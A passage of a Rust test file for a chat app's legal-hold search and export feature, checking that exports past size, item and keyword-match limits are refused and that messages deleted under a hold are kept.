    let one = search(&app, &officer, json!({"workspace": ws, "query": "sigma"})).await;
    assert_eq!(one["truncated"], false, "{one}");
    assert_eq!(one["total"], 1, "{one}");
    let why = refused(json!({"workspace": ws, "query": "omega", "format": "jsonl"})).await;
    assert!(why.contains("max_keyword_matches"), "{why}");
    let (_, bytes) = export(
        &app,
        &officer,
        json!({"workspace": ws, "query": "sigma", "format": "jsonl"}),
    )
    .await;
    assert_eq!(String::from_utf8(bytes).unwrap().lines().count(), 1);

    // Text counts toward max_export_mib: 66 messages of 16 000 bytes are over 1 MiB.
    let bulk = "x".repeat(15_990);
    for i in 0..66 {
        say(&app, &t.bo, &general, &format!("bulk {i:04} {bulk}")).await;
    }
    let why = refused(json!({"workspace": ws, "format": "csv"})).await;
    assert!(why.contains("max_export_mib"), "{why}");
    let (_, bytes) = export(
        &app,
        &officer,
        json!({"workspace": ws, "custodians": [t.ann.user_id], "format": "csv"}),
    )
    .await;
    assert!(String::from_utf8(bytes).unwrap().contains("sigma alone"));

    // More items than one export holds.
    for i in 0..10 {
        say(&app, &t.ann, &general, &format!("more {i}")).await;
    }
    let why = refused(json!({"workspace": ws, "format": "jsonl"})).await;
    assert!(why.contains("max_export_items"), "{why}");

    // More kept deleted messages than a keyword search reads: its results may miss some.
    app.post(
        &format!("/api/v1/workspaces/{}/legal-holds", t.ws),
        Some(&officer.access),
        json!({"name": "matter", "custodians": [t.ann.user_id]}),
    )
    .await
    .expect(201);
    for text in ["kappa one", "kappa two"] {
        let m = say(&app, &t.ann, &general, text).await;
        app.delete(&format!("/api/v1/messages/{}", id(&m)), &t.ann.access)
            .await
            .expect(204);
    }
    let page = search(&app, &officer, json!({"workspace": ws, "query": "kappa"})).await;
    assert_eq!(page["truncated"], true, "{page}");
    let why = refused(json!({"workspace": ws, "query": "sigma", "format": "jsonl"})).await;
    assert!(why.contains("max_deleted_scanned"), "{why}");
}

both_backends!(
    searching_narrows_by_custodian_channel_date_and_keyword,
    exports_read_back_in_every_format,
    the_daily_export_writes_each_day_once,
    two_runners_claiming_a_day_get_it_once,
    csv_cells_never_become_formulas,
    exports_past_a_limit_are_refused_never_cut_short,
);
